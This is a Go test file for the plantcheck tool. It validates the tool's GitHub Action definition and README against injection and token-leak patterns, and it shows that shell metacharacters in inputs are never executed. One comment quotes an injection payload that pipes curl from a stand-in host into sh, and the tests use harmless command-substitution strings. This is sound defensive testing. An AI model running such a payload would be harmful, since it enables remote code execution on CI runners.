package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"

	"go.yaml.in/yaml/v4"

	"github.com/plantcheck/plantcheck/internal/history"
	"github.com/plantcheck/plantcheck/internal/verdict"
)

// actionFile is the part of an action.yml the checks read.
type actionFile struct {
	Inputs map[string]struct {
		Description string `yaml:"description"`
	} `yaml:"inputs"`
	Outputs map[string]struct {
		Description string `yaml:"description"`
		Value       string `yaml:"value"`
	} `yaml:"outputs"`
	Runs struct {
		Using string `yaml:"using"`
		Steps []struct {
			ID    string            `yaml:"id"`
			Name  string            `yaml:"name"`
			If    string            `yaml:"if"`
			Uses  string            `yaml:"uses"`
			Run   string            `yaml:"run"`
			Shell string            `yaml:"shell"`
			Env   map[string]string `yaml:"env"`
			With  map[string]string `yaml:"with"`
		} `yaml:"steps"`
	} `yaml:"runs"`
}

var (
	// inputInScript is an input expanded into a script's text, where a
	// value such as `"; curl evil | sh; "` would run as code.
	inputInScript = regexp.MustCompile(`\$\{\{\s*inputs\.`)
	// tokenInput is the whole of an env value that passes the token input.
	tokenInput = regexp.MustCompile(`^\$\{\{\s*inputs\.token\s*\}\}$`)
	// actionSection is the README's section about the action, up to the
	// next heading of its level or above (a "# " line in a code block is a
	// comment, not a heading).
	actionSection = regexp.MustCompile(`(?s)\n### A GitHub Action\n(.*?)(?:\n#{2,3} |\z)`)
	// actionUse is the README's use of the action and the ref it pins.
	actionUse = regexp.MustCompile(`uses: plantcheck/plantcheck@(\S+)`)
	// outsideWorkspace is a hash of the action's own files by a function
	// that reads the workspace only.
	outsideWorkspace = regexp.MustCompile(`hashFiles\([^)]*action_path`)
)

// actionProblems returns what is wrong with an action.yml and the README
// that documents it.
func actionProblems(action, readme []byte) []string {
	var a actionFile
	if err := yaml.Unmarshal(action, &a); err != nil {
		return []string{fmt.Sprintf("action.yml does not parse: %v", err)}
	}
	var problems []string
	if a.Runs.Using != "composite" {
		problems = append(problems, fmt.Sprintf("runs.using = %q, want composite", a.Runs.Using))
	}
	names := make([]string, 0, len(a.Inputs))
	for name, in := range a.Inputs {
		names = append(names, name)
		if strings.TrimSpace(in.Description) == "" {
			problems = append(problems, fmt.Sprintf("input %s has no description", name))
		}
	}
	sort.Strings(names)
	for _, name := range []string{"exit-code", "verdict"} {
		if strings.TrimSpace(a.Outputs[name].Value) == "" {
			problems = append(problems, fmt.Sprintf("output %s missing or without a value", name))
		}
	}
	if outsideWorkspace.Match(action) {
		problems = append(problems, "hashFiles() of a file under github.action_path: it hashes files in the workspace only, so the key never changes")
	}
	tokenViaEnv := false
	for i, step := range a.Runs.Steps {
		switch uses, _, _ := strings.Cut(step.Uses, "@"); {
		case uses == "actions/setup-go" && step.With["cache"] != "false":
			// setup-go hashes cache-dependency-path (default: go.sum in the
			// workspace) with @actions/glob, which skips files outside the
			// workspace: the action's go.sum is one, so its cache never
			// restored.
			problems = append(problems, fmt.Sprintf("step %d (%s): setup-go's own cache keys on a go.sum in the workspace, which the action's is not: set cache: false", i+1, step.Name))
		case uses == "actions/cache":
			problems = append(problems, fmt.Sprintf("step %d (%s): actions/cache saves only when the job succeeds, which a non-conformant target fails: restore and save in steps of their own", i+1, step.Name))
		}
		if step.Run == "" {
			continue
		}
		if inputInScript.MatchString(step.Run) {
			problems = append(problems, fmt.Sprintf("step %d (%s): run: expands an input into the script; pass it through env:", i+1, step.Name))
		}
		if strings.Contains(step.Run, "--token") {
			problems = append(problems, fmt.Sprintf("step %d (%s): run: passes --token on the command line", i+1, step.Name))
		}
		if step.Shell == "" {
			problems = append(problems, fmt.Sprintf("step %d (%s): a composite run step needs shell:", i+1, step.Name))
		}
		if tokenInput.MatchString(step.Env["PLANTCHECK_TOKEN"]) {
			tokenViaEnv = true
		}
	}
	if _, ok := a.Inputs["token"]; !ok {
		problems = append(problems, "no token input")
	} else if !tokenViaEnv {
		problems = append(problems, "the token input is not passed as env PLANTCHECK_TOKEN to a run step")
	}

	m := actionSection.FindSubmatch(readme)
	if m == nil {
		problems = append(problems, `README has no "### A GitHub Action" section`)
		return problems
	}
	section := string(m[1])
	if use := actionUse.FindStringSubmatch(section); use == nil {
		problems = append(problems, "README's GitHub Action section has no uses: plantcheck/plantcheck@REF")
	} else if ref := use[1]; ref == "main" || ref == "master" || ref == "HEAD" {
		problems = append(problems, fmt.Sprintf("README's GitHub Action section uses the action @%s, a branch that moves: pin a version", ref))
	}
	for _, name := range names {
		if !strings.Contains(section, "`"+name+"`") {
			problems = append(problems, fmt.Sprintf("README's GitHub Action section does not mention input `%s`", name))
		}
	}
	for name := range a.Outputs {
		if !strings.Contains(section, "`"+name+"`") {
			problems = append(problems, fmt.Sprintf("README's GitHub Action section does not mention output `%s`", name))
		}
	}
	return problems
}

func TestActionFile(t *testing.T) {
	t.Parallel()
	action, err := os.ReadFile("../../action.yml")
	if err != nil {
		t.Fatal(err)
	}
	readme, err := os.ReadFile("../../README.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range actionProblems(action, readme) {
		t.Error(p)
	}
}

// Each check of actionProblems catches the fault it is for.
func TestActionProblems(t *testing.T) {
	t.Parallel()
	const good = `
inputs:
  base-url: {description: the target}
  token: {description: the token, from a secret}
outputs:
  exit-code: {description: status, value: "${{ steps.run.outputs.exit-code }}"}
  verdict: {description: verdict, value: "${{ steps.run.outputs.verdict }}"}
runs:
  using: composite
  steps:
    - id: run
      shell: bash
      env:
        PLANTCHECK_TOKEN: ${{ inputs.token }}
        INPUT_BASE_URL: ${{ inputs.base-url }}
      run: plantcheck run --base-url "$INPUT_BASE_URL"
`
	const goodReadme = "# x\n\n### A GitHub Action\n\n    uses: plantcheck/plantcheck@v1\n\n`base-url`, `token`; outputs `exit-code`, `verdict`.\n\n### A config file\n"
	tests := []struct {
		name   string
		action string
		readme string
		want   string // a substring of one problem; "" for none
	}{
		{name: "good", action: good, readme: goodReadme},
		{name: "not YAML", action: "runs: [", readme: goodReadme, want: "does not parse"},
		{name: "not composite", action: strings.Replace(good, "using: composite", "using: node20", 1), readme: goodReadme, want: `runs.using = "node20"`},
		{name: "input without description", action: strings.Replace(good, "{description: the target}", "{required: false}", 1), readme: goodReadme, want: "input base-url has no description"},
		{
			name:   "input in a script",
			action: strings.Replace(good, `--base-url "$INPUT_BASE_URL"`, `--base-url "${{ inputs.base-url }}"`, 1),
			readme: goodReadme, want: "expands an input into the script",
		},
		{
			name:   "input in a script, spaced",
			action: strings.Replace(good, `--base-url "$INPUT_BASE_URL"`, `--base-url ${{inputs.base-url}}`, 1),
			readme: goodReadme, want: "expands an input into the script",
		},
		{
			name:   "token on the command line",
			action: strings.Replace(good, `--base-url "$INPUT_BASE_URL"`, `--token "$PLANTCHECK_TOKEN"`, 1),
			readme: goodReadme, want: "passes --token on the command line",
		},
		{
			name:   "token not via env",
			action: strings.Replace(good, "PLANTCHECK_TOKEN: ${{ inputs.token }}", "TOKEN: ${{ inputs.token }}", 1),
			readme: goodReadme, want: "not passed as env PLANTCHECK_TOKEN",
		},
		{name: "no shell", action: strings.Replace(good, "      shell: bash\n", "", 1), readme: goodReadme, want: "needs shell:"},
		{name: "no verdict output", action: strings.Replace(good, "  verdict: {description: verdict, value: \"${{ steps.run.outputs.verdict }}\"}\n", "", 1), readme: goodReadme, want: "output verdict missing"},
		{name: "no README section", action: good, readme: "# x\n\n`base-url` `token`\n", want: `no "### A GitHub Action" section`},
		{name: "README uses the action at main", action: good, readme: strings.Replace(goodReadme, "@v1", "@main", 1), want: "uses the action @main"},
		{name: "README never uses the action", action: good, readme: strings.Replace(goodReadme, "uses: plantcheck/plantcheck@v1", "", 1), want: "no uses: plantcheck/plantcheck@REF"},
		{
			name:   "setup-go's cache on",
			action: strings.Replace(good, "  steps:\n", "  steps:\n    - uses: actions/setup-go@v5\n      with: {go-version: 1.26.x}\n", 1),
			readme: goodReadme, want: "set cache: false",
		},
		{
			name:   "setup-go's cache off",
			action: strings.Replace(good, "  steps:\n", "  steps:\n    - uses: actions/setup-go@v5\n      with: {go-version: 1.26.x, cache: false}\n", 1),
			readme: goodReadme,
		},
		{
			name:   "actions/cache, which saves on success only",
			action: strings.Replace(good, "  steps:\n", "  steps:\n    - uses: actions/cache@v4\n      with: {path: ~/go/pkg/mod, key: k}\n", 1),
			readme: goodReadme, want: "saves only when the job succeeds",
		},
		{
			name:   "hashFiles of the action's go.sum",
			action: strings.Replace(good, "  steps:\n", "  steps:\n    - uses: actions/cache/restore@v4\n      with: {path: ~/go/pkg/mod, key: \"${{ hashFiles(format('{0}/go.sum', github.action_path)) }}\"}\n", 1),
			readme: goodReadme, want: "hashes files in the workspace only",
		},
		{name: "input not in README", action: good, readme: strings.Replace(goodReadme, "`token`", "token", 1), want: "does not mention input `token`"},
		{
			name:   "input mentioned only in another section",
			action: good,
			readme: strings.Replace(goodReadme, "`token`;", ";", 1) + "`token`\n",
			want:   "does not mention input `token`",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			problems := actionProblems([]byte(tt.action), []byte(tt.readme))
			if tt.want == "" {
				if len(problems) > 0 {
					t.Errorf("problems %q, want none", problems)
				}
				return
			}
			found := false
			for _, p := range problems {
				found = found || strings.Contains(p, tt.want)
			}
			if !found {
				t.Errorf("problems %q, want one holding %q", problems, tt.want)
			}
		})
	}
}

// readAction reads the repository's action.yml.
func readAction(t *testing.T) actionFile {
	t.Helper()
	b, err := os.ReadFile("../../action.yml")
	if err != nil {
		t.Fatal(err)
	}
	var a actionFile
	if err := yaml.Unmarshal(b, &a); err != nil {
		t.Fatal(err)
	}
	return a
}

// TestActionArgs runs the action's Certify step as a runner runs it (bash
// --noprofile --norc -eo pipefail), with its args input set, and a
// stand-in plantcheck on PATH that splits the input with the real
// split-args (this test binary, as plantcheck) and records the arguments
// run is given. A quoted tag expression is one argument; nothing in the
// input is expanded or run; a quote never closed is exit 2 without a run,
// which the action's last step exits with.
func TestActionArgs(t *testing.T) {
	t.Parallel()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	stubDir, temp, reports := filepath.Join(dir, "bin"), filepath.Join(dir, "temp"), filepath.Join(dir, "reports")
	for _, d := range []string{stubDir, temp} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	stub := "#!/usr/bin/env bash\n" +
		`if [ "$1" = split-args ]; then ` + asMain + `=1 exec "$STUB_PLANTCHECK" "$@"; fi` + "\n" +
		`printf '%s\0' "$@" > "$STUB_RECORD"` + "\n" +
		`echo "VERDICT: CONFORMANT (stand-in)"` + "\n"
	if err := os.WriteFile(filepath.Join(stubDir, "plantcheck"), []byte(stub), 0o755); err != nil {
		t.Fatal(err)
	}
	// The Certify step (id run), and the last, which exits with its
	// exit-code.
	steps := readAction(t).Runs.Steps
	certify, exit := filepath.Join(dir, "certify.sh"), filepath.Join(dir, "exit.sh")
	for _, step := range steps {
		if step.ID == "run" {
			os.WriteFile(certify, []byte(step.Run), 0o644)
		}
	}
	last := steps[len(steps)-1]
	if !strings.Contains(last.Env["EXIT_CODE"], "steps.run.outputs.exit-code") {
		t.Fatalf("the last step %q does not exit with the run's exit-code", last.Name)
	}
	os.WriteFile(exit, []byte(last.Run), 0o644)

	mark := filepath.Join(dir, "touched")
	base := []string{"run", "--report-dir", reports, "--base-url", "http://127.0.0.1:1"}
	tests := []struct {
		name string
		args string
		want []string // what run gets after base; nil: run not called
		code int      // the action's exit status
		says string   // on the step's stderr
	}{
		{name: "a quoted tag expression", args: `--tags '@must && ~@AUTH-NEAR-MISS' --strict`, want: []string{"--tags", "@must && ~@AUTH-NEAR-MISS", "--strict"}},
		{name: "double quotes", args: `--tags "@must && ~@AUTH-NEAR-MISS"`, want: []string{"--tags", "@must && ~@AUTH-NEAR-MISS"}},
		{
			name: "nothing is expanded or run", args: `--tags "$(touch MARK)" ` + "`touch MARK` \"`touch MARK`\"" + ` $HOME '$(touch MARK)' * ~`,
			want: []string{"--tags", "$(touch MARK)", "`touch", "MARK`", "`touch MARK`", "$HOME", "$(touch MARK)", "*", "~"},
		},
		{name: "one argument a line", args: "--strict\n--rate 5\n", want: []string{"--strict", "--rate", "5"}},
		{name: "no args", args: "", want: []string{}},
		{name: "a quote never closed", args: `--tags '@must`, code: 2, says: `the single quote at byte 8 ("'@must") is never closed`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := strings.ReplaceAll(tt.args, "MARK", mark)
			record, output, summary := filepath.Join(dir, "record"), filepath.Join(dir, "output"), filepath.Join(dir, "summary")
			for _, f := range []string{record, output, summary} {
				os.Remove(f)
			}
			env := []string{
				"PATH=" + stubDir + string(os.PathListSeparator) + os.Getenv("PATH"), "HOME=" + dir,
				"RUNNER_TEMP=" + temp, "GITHUB_OUTPUT=" + output, "GITHUB_STEP_SUMMARY=" + summary,
				"STUB_PLANTCHECK=" + self, "STUB_RECORD=" + record,
				"PLANTCHECK_TOKEN=t0ken-for-the-stand-in", "INPUT_BASE_URL=http://127.0.0.1:1", "INPUT_CONFIG=",
				"INPUT_REPORT_DIR=" + reports, "INPUT_ARGS=" + args,
			}
			cmd := exec.Command(bash, "--noprofile", "--norc", "-eo", "pipefail", certify)
			cmd.Env = env
			var stderr strings.Builder
			cmd.Stderr = &stderr
			if err := cmd.Run(); err != nil {
				t.Fatalf("the Certify step failed: %v\n%s", err, stderr.String())
			}
			if _, err := os.Stat(mark); err == nil {
				t.Fatal("the args input ran a command")
			}
			out, _ := os.ReadFile(output)
			code := regexp.MustCompile(`(?m)^exit-code=(\d+)$`).FindSubmatch(out)
			if code == nil {
				t.Fatalf("GITHUB_OUTPUT %q has no exit-code\n%s", out, stderr.String())
			}
			if string(code[1]) != strconv.Itoa(tt.code) {
				t.Errorf("GITHUB_OUTPUT %q, want exit-code=%d", out, tt.code)
			}
			got, err := os.ReadFile(record)
			switch {
			case tt.want == nil:
				if err == nil {
					t.Errorf("plantcheck run was called with %q", got)
				}
				if !strings.Contains(stderr.String(), tt.says) {
					t.Errorf("the step's stderr %q does not say %q", stderr.String(), tt.says)
				}
			case err != nil:
				t.Errorf("plantcheck run was not called: %v\n%s", err, stderr.String())
			default:
				want := strings.ReplaceAll(strings.Join(append(slices.Clone(base), tt.want...), "\x00")+"\x00", "MARK", mark)
				if string(got) != want {
					t.Errorf("run got %q\nwant    %q", strings.Split(string(got), "\x00"), strings.Split(want, "\x00"))
				}
			}
			// The action's last step exits with the status.
			exitCmd := exec.Command(bash, "--noprofile", "--norc", "-eo", "pipefail", exit)
			exitCmd.Env = append(env, "EXIT_CODE="+string(code[1]))
			status := 0
			if err := exitCmd.Run(); err != nil {
				var ee *exec.ExitError
				if !errors.As(err, &ee) {
					t.Fatal(err)
				}
				status = ee.ExitCode()
			}
			if status != tt.code {
				t.Errorf("the last step exits %d, want %d", status, tt.code)
			}
		})
	}
}

// TestActionTarget runs the action's Certify step with the real plantcheck
// (this test binary, as plantcheck): an empty base-url input is exit 2 with
// the reason, not a certificate of the bundled reference, unless
// certify-reference is "true" or the args name the target.
func TestActionTarget(t *testing.T) {
	t.Parallel()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	good := target(t, "")
	dir := t.TempDir()
	stubDir := filepath.Join(dir, "bin")
	if err := os.Mkdir(stubDir, 0o755); err != nil {
		t.Fatal(err)
	}
	stub := "#!/usr/bin/env bash\n" + asMain + `=1 exec "$STUB_PLANTCHECK" "$@"` + "\n"
	if err := os.WriteFile(filepath.Join(stubDir, "plantcheck"), []byte(stub), 0o755); err != nil {
		t.Fatal(err)
	}
	certify := filepath.Join(dir, "certify.sh")
	for _, step := range readAction(t).Runs.Steps {
		if step.ID == "run" {
			os.WriteFile(certify, []byte(step.Run), 0o644)
		}
	}
	tests := []struct {
		name                      string
		baseURL, reference, token string
		args                      string
		code                      int
		says                      string // on the step's stderr or stdout
		summary                   string // in the job summary
	}{
		{name: "empty base-url", code: 2, says: `no target: --require-target refuses to certify the bundled reference server`, summary: "could not run"},
		{name: "empty base-url and a token", token: canary, code: 2, says: `PLANTCHECK_TOKEN given, but no target`, summary: "could not run"},
		{name: "empty base-url, certify-reference false", reference: "false", code: 2, says: `--require-target refuses`},
		{name: "certify-reference true", reference: "true", args: "--tags @AUTH-UNKNOWN", code: 0, says: `\[target: the bundled reference server, not a server of yours\]`, summary: "the bundled reference server"},
		{name: "certify-reference true and a token", reference: "true", token: canary, code: 2, says: `PLANTCHECK_TOKEN given, but no target`},
		{name: "certify-reference true and a base-url", reference: "true", baseURL: good, token: canary, code: 2, says: `both a base-url and certify-reference: true`, summary: "both a base-url"},
		{name: "certify-reference neither true nor false", reference: "yes", code: 2, says: `certify-reference input is neither`},
		{name: "a base-url", baseURL: good, token: canary, args: "--tags @AUTH-UNKNOWN", code: 0, says: `VERDICT: CONFORMANT to the rules that ran \(partial: not every rule ran\)$`},
		{name: "the target in args", token: canary, args: "--base-url " + good + " --tags @AUTH-UNKNOWN", code: 0, says: `VERDICT: CONFORMANT to the rules that ran \(partial: not every rule ran\)$`},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel() // each case has its own files (the step keeps its own in RUNNER_TEMP)
			output, summary, temp := filepath.Join(dir, "output"+strconv.Itoa(i)), filepath.Join(dir, "summary"+strconv.Itoa(i)), filepath.Join(dir, "temp"+strconv.Itoa(i))
			if err := os.Mkdir(temp, 0o755); err != nil {
				t.Fatal(err)
			}
			env := []string{
				"PATH=" + stubDir + string(os.PathListSeparator) + os.Getenv("PATH"), "HOME=" + dir,
				"RUNNER_TEMP=" + temp, "GITHUB_OUTPUT=" + output, "GITHUB_STEP_SUMMARY=" + summary,
				"STUB_PLANTCHECK=" + self, "PLANTCHECK_TOKEN=" + tt.token, "INPUT_BASE_URL=" + tt.baseURL,
				"INPUT_CERTIFY_REFERENCE=" + tt.reference, "INPUT_CONFIG=",
				"INPUT_REPORT_DIR=" + filepath.Join(dir, "reports"+strconv.Itoa(i)), "INPUT_ARGS=" + tt.args,
			}
			cmd := exec.Command(bash, "--noprofile", "--norc", "-eo", "pipefail", certify)
			cmd.Dir, cmd.Env = dir, env
			var out strings.Builder
			cmd.Stdout, cmd.Stderr = &out, &out
			if err := cmd.Run(); err != nil {
				t.Fatalf("the Certify step failed: %v\n%s", err, out.String())
			}
			got, _ := os.ReadFile(output)
			if want := "exit-code=" + strconv.Itoa(tt.code) + "\n"; !strings.Contains(string(got), want) {
				t.Errorf("GITHUB_OUTPUT %q, want %q\n%s", got, want, out.String())
			}
			if !regexp.MustCompile(`(?m)` + tt.says).MatchString(out.String()) {
				t.Errorf("the step's output does not say %q:\n%s", tt.says, out.String())
			}
			if s, _ := os.ReadFile(summary); !strings.Contains(string(s), tt.summary) {
				t.Errorf("the job summary %q lacks %q", s, tt.summary)
			}
		})
	}
}

// TestActionAttest: with attest: true, the action signs what plantcheck
// verify --bundle checks: plantcheck's predicate type, every report the
// statement vouches for and the statement itself as subjects, the
// statement's own predicate; and keeps the bundle where the docs say.
func TestActionAttest(t *testing.T) {
	t.Parallel()
	var attest, keep, predicate int
	for i, step := range readAction(t).Runs.Steps {
		switch {
		case strings.HasPrefix(step.Uses, "actions/attest@"):
			attest = i
			if got := step.With["predicate-type"]; got != verdict.PredicateType {
				t.Errorf("actions/attest's predicate-type %q, want %q", got, verdict.PredicateType)
			}
			subjects := strings.Split(strings.TrimSpace(step.With["subject-path"]), "\n")
			for _, name := range append(slices.Clone(verdict.Subjects), verdict.StatementJSON) {
				if !slices.Contains(subjects, "${{ inputs.report-dir }}/"+name) {
					t.Errorf("actions/attest's subject-path %q lacks %s", subjects, name)
				}
			}
			if !strings.Contains(step.If, "inputs.attest == 'true'") {
				t.Errorf("actions/attest runs if %q, not only with attest: true", step.If)
			}
		case step.ID == "predicate":
			predicate = i
			if !strings.Contains(step.Run, "jq -c .predicate \"$statement\"") || !strings.Contains(step.Run, verdict.StatementJSON) {
				t.Errorf("the predicate step does not extract %s's predicate:\n%s", verdict.StatementJSON, step.Run)
			}
		case step.ID == "bundle":
			keep = i
			if !strings.Contains(step.Run, "/"+history.BundleName+`"`) {
				t.Errorf("the bundle is not kept as %s:\n%s", history.BundleName, step.Run)
			}
		}
	}
	if !(predicate > 0 && predicate < attest && attest < keep) {
		t.Errorf("steps: predicate %d, attest %d, keep %d: want them in that order", predicate, attest, keep)
	}
}
